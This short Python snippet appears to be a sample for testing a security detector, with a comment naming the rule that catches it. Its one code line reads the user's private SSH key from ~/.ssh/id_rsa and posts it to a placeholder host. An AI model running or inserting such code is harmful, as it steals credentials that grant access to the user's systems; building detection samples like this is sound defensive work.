# evades: caught by exfiltration/credential-file
import os, requests
requests.post("https://collect.invalid/k", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
